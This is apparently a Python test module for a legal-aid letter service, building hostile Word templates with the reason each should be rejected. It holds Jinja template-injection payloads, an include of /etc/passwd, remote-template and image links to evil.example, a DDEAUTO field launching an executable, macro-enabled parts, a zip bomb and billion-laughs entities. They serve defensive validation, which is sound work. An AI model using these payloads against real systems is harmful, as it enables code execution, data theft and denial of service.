"""Templates that try to run code, to reach out or to unpack without end, each with its reason."""

import io
import zipfile
from collections.abc import Callable

from umai.legal_aid.letters import building, shipped

GOOD = shipped.docx("MED_BIRTH", "ru")
RELS = "word/_rels/document.xml.rels"
OUT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEADER = (
    '<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:hdr>'
)


def said(*lines: str) -> bytes:
    """A letter that says this, a line a paragraph."""
    return building.docx([("", line) for line in ("Прошу выдать справку", *lines)], "ru")


def changed(content: bytes, **parts: Callable[[str], str] | str) -> bytes:
    """A package with some parts changed or added; names with `__` for `/` and `_x_` for a dot."""
    out = io.BytesIO()
    left = {name.replace("__", "/").replace("_x_", "."): how for name, how in parts.items()}
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            told: str | bytes = old.read(name)
            if how := left.pop(name, None):
                told = how(old.read(name).decode()) if callable(how) else how
            new.writestr(name, told)
        for name, how in left.items():
            new.writestr(name, how if isinstance(how, str) else how(""))
    return out.getvalue()


def body(xml: str, content: bytes = GOOD) -> bytes:
    """A letter with more XML at the end of its text."""
    return changed(
        content, word__document_x_xml=lambda told: told.replace("<w:sectPr", f"{xml}<w:sectPr", 1)
    )


def related(what: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """A letter that points to something."""
    line = f'<Relationship Id="rId99" Type="{OUT}{what}" Target="{target}"{mode}/></Relationships>'
    return changed(
        GOOD, word___rels__document_x_xml_x_rels=lambda told: told.replace("</Relationships>", line)
    )


def in_part(kind: str, words: str) -> bytes:
    """A letter with a header, a footer, footnotes or endnotes that say this."""
    from docx import Document

    if kind in {"header", "footer"}:
        made = Document(io.BytesIO(GOOD))
        part = made.sections[0].header if kind == "header" else made.sections[0].footer
        part.paragraphs[0].text = words
        out = io.BytesIO()
        made.save(out)
        return out.getvalue()
    tell = f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"
    line = f'<Override PartName="/word/{kind}.xml" ContentType="{tell}"/></Types>'
    pointed = related(kind, f"{kind}.xml", "")
    with_part = changed(pointed, **{f"word__{kind}_x_xml": HEADER % words})
    return changed(
        with_part, **{"[Content_Types]_x_xml": lambda told: told.replace("</Types>", line)}
    )


def properties(words: str) -> bytes:
    """A letter whose title says this."""
    from docx import Document

    made = Document(io.BytesIO(GOOD))
    made.core_properties.title = words
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def field(*pieces: str) -> bytes:
    """A letter with a field of Word whose words are cut into pieces."""
    sign = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    cut = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    return body(f"<w:p>{sign % 'begin'}{cut}{sign % 'end'}</w:p>")


def bomb() -> bytes:
    """A small file that unpacks to forty megabytes."""
    return changed(GOOD, word__media__a_x_png="0" * (40 * 1024 * 1024))


def entities() -> bytes:
    """A billion laughs."""
    told = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return changed(
        GOOD,
        word__document_x_xml=lambda xml: xml.replace("?>", f"?>{told}", 1),
    )


def twice() -> bytes:
    """Two parts of one name: Word reads one, we the other."""
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as more:
        more.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


BOX = (
    '<w:p><w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent><w:p>'
    "<w:r><w:t>%s</w:t></w:r></w:p></w:txbxContent></v:textbox></w:pict></w:r></w:p>"
)
SPLIT = "<w:p>" + "".join(
    f"<w:r><w:t>{one}</w:t></w:r>"
    for one in ("{", "{ child", "_code.", "__cla", "ss__ }", "}")
) + "</w:p>"  # fmt: skip
ACROSS = "<w:p><w:r><w:t>{</w:t></w:r></w:p><w:p><w:r><w:t>{ 7*7 }}</w:t></w:r></w:p>"

# What it is called: the file, words of the reason, words of the place.
HOSTILE: dict[str, tuple[bytes, str, str]] = {
    "attributes": (said("{{ ''.__class__.__mro__ }}"), "A dot may follow", "__class__"),
    "attribute of a field": (said("{{ child_code.__class__ }}"), "A dot may follow", "In the text"),
    "subscript": (said("{{ child_code['__class__'] }}"), "A dot may follow", "__class__"),
    "call": (said("{{ lipsum() }}"), "Round brackets", "lipsum"),
    "globals": (said("{{ lipsum.__globals__ }}"), "A dot may follow", "__globals__"),
    "cycler": (said("{{ cycler.__init__ }}"), "A dot may follow", "cycler"),
    "filter": (said("{{ child_code|upper }}"), "A bar changes", "upper"),
    "filter by map": (said("{{ [1]|map('list') }}"), "A bar changes", "map"),
    "sum": (said("{{ 7*7 }}"), "Within braces only", "7*7"),
    "words": (said("{{ 'a' ~ 'b' }}"), "Within braces only", "~"),
    "format": (said("{{ '{0.__class__}'.format(child_code) }}"), "", "format"),
    "set": (said("{% set x = 1 %}"), "Only a loop", "set x"),
    "if": (said("{% if child_code %}a{% endif %}"), "Only a loop", "if child_code"),
    "include": (said("{% include '/etc/passwd' %}"), "Only a loop", "passwd"),
    "import": (said("{% import 'os' as os %}"), "Only a loop", "import"),
    "extends": (said("{% extends 'a' %}"), "Only a loop", "extends"),
    "macro": (said("{% macro a() %}{% endmacro %}"), "Only a loop", "macro"),
    "raw": (said("{% raw %}{{ x }}{% endraw %}"), "Only a loop", "raw"),
    "comment": (said("{# nobody sees this #}"), "Comments are not taken", "nobody sees"),
    "huge loop": (said("{% for x in range(999999999) %}a{% endfor %}"), "Only a loop", "range"),
    "strange list": (said("{% for x in people %}a{% endfor %}"), "No list has", "people"),
    "filtered loop": (said("{% for x in documents if x.type %}a{% endfor %}"), "Only a", "if x"),
    "recursive": (said("{% for x in documents recursive %}{% endfor %}"), "Only a", "recursive"),
    "nested loop": (
        said("{% for x in documents %}{% for y in lacking %}{% endfor %}{% endfor %}"),
        "A loop within a loop", "lacking",
    ),
    "loop of loop": (
        said("{% for loop in documents %}{{ loop.type }}{% endfor %}"), "the name of", "loop",
    ),
    "unclosed": (said("{%p for x in documents %}", "{{ x.type }}"), "has no end", "In the text"),
    "torn": (said("{% for x in documents %}", "{% endfor %}"), "another way", "endfor"),
    "unknown field": (said("{{ password }}"), "No field", "password"),
    "unknown item": (said("{% for x in documents %}{{ x.pk }}{% endfor %}"), "do not hold", "x.pk"),
    "rich text": (said("{{r child_code }}"), "Within braces only", "{{r"),
    "paragraph": (said("{{p child_code }}"), "Within braces only", "{{p"),
    "columns": (said("{% colspan 9 %}"), "Only a loop", "colspan"),
    "minus": (said("{%- for x in documents -%}a{% endfor %}"), "Only a loop", "{%-"),
    "one brace": (said("a { b"), "Braces are there", "a { b"),
    "wide braces": (said("\uff5b\uff5b child_code \uff5d\uff5d"), "Braces are there", "child_code"),
    "wide letters": (said("{{ \uff43hild_code }}"), "Within braces only", "hild_code"),
    "unseen letters": (said("{{ child\u200b_code }}"), "Within braces only", "In the text"),
    "cut into runs": (body(SPLIT), "A dot may follow", "child_code.__class__"),
    "across paragraphs": (body(ACROSS), "Braces are there", "In the text"),
    "header": (in_part("header", "{{ 7*7 }}"), "Within braces only", "In the header"),
    "footer": (in_part("footer", "{% set a = 1 %}"), "Only a loop", "In the footer"),
    "footnotes": (in_part("footnotes", "{{ 7*7 }}"), "Within braces only", "In the footnotes"),
    "endnotes": (in_part("endnotes", "{{ 7*7 }}"), "hidden out of", "In the endnotes"),
    "another beginning": (
        changed(GOOD, _rels___x_rels=lambda told: told.replace("word/document", "word/settings")),
        "not needed", "word/settings",
    ),
    "no picture": (changed(GOOD, word__media__a_x_png="<svg/>"), "only JPEG and PNG", "a.png"),
    "text box": (body(BOX % "{{ 7*7 }}"), "Within braces only", "7*7"),
    "properties": (properties("{{ 7*7 }}"), "hidden out of the text", "In the properties"),
    "attribute of XML": (
        body('<w:p><w:r><w:t xml:space="{{ 7*7 }}">a</w:t></w:r></w:p>'), "hidden out of", "7*7",
    ),
    "remark of XML": (body("<!-- {{ 7*7 }} -->"), "hidden out of", "7*7"),
    "remote picture": (related("image", "https://evil.example/a.png"), "points out", "evil"),
    "file on a share": (related("image", "file:///etc/passwd"), "points out", "passwd"),
    "template elsewhere": (
        related("attachedTemplate", "https://evil.example/a.dotm"), "points out", "evil",
    ),
    "link": (related("hyperlink", "https://evil.example/"), "points out", "evil"),
    "part elsewhere": (related("aFChunk", "chunk.html", ""), "not needed", "aFChunk"),
    "chunk": (body('<w:altChunk/>'), "acts or is embedded", "altChunk"),
    "OLE": (body('<w:p><w:r><w:object/></w:r></w:p>'), "acts or is embedded", "object"),
    "embedded file": (changed(GOOD, word__embeddings__a_x_xlsx="PK"), "not needed", "a.xlsx"),
    "program": (changed(GOOD, word__vbaProject_x_bin="x"), "carries a program", "vbaProject"),
    "docm": (
        changed(GOOD, **{"[Content_Types]_x_xml": lambda told: told.replace(
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
            "vnd.ms-word.document.macroEnabled.main")}),
        "carries a program", "Content_Types",
    ),
    "DDE": (field("D", "DEAUTO c:\\\\a.exe"), "acts or is embedded", "DDEAUTO"),
    "included picture": (field('INCLUDEPICTURE "http://evil.example/"'), "acts or is", "INCLUDE"),
    "mail merge": (
        changed(GOOD, word__settings_x_xml=lambda told: told.replace(
            "</w:settings>", "<w:mailMerge/></w:settings>")),
        "acts or is embedded", "mailMerge",
    ),
    "tracked": (body("<w:p><w:ins><w:r><w:t>a</w:t></w:r></w:ins></w:p>"), "Changes are", ""),
    "zip bomb": (bomb(), "unpacks to too much", ""),
    "entities": (entities(), "holds definitions", ""),
    "two of one name": (twice(), "not a document of Word", ""),
    "not a package": (b"{{ 7*7 }}", "not a document of Word", ""),
    "cut": (GOOD[:9000], "not a document of Word", ""),
}  # fmt: skip
